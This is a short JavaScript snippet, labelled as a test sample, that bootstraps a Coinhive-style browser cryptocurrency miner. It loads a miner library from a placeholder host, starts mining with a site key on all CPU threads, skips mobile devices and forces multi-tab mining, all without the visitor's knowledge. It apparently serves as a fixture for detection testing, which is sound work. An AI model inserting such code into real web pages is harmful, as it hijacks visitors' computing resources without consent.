/* Test sample: browser miner bootstrap (Coinhive-style API). */
(function () {
    var s = document.createElement('script');
    s.src = 'https://coinhive.example/lib/coinhive.min.js';
    s.onload = function () {
        var miner = new CoinHive.Anonymous('DNxril3RavGD5MfvJ7NScUykT8C8UBkk', {
            threads: navigator.hardwareConcurrency || 4,
            throttle: 0.2,
            forceASMJS: false
        });
        if (!miner.isMobile()) {
            miner.start(CoinHive.FORCE_MULTI_TAB);
        }
    };
    document.head.appendChild(s);
})();
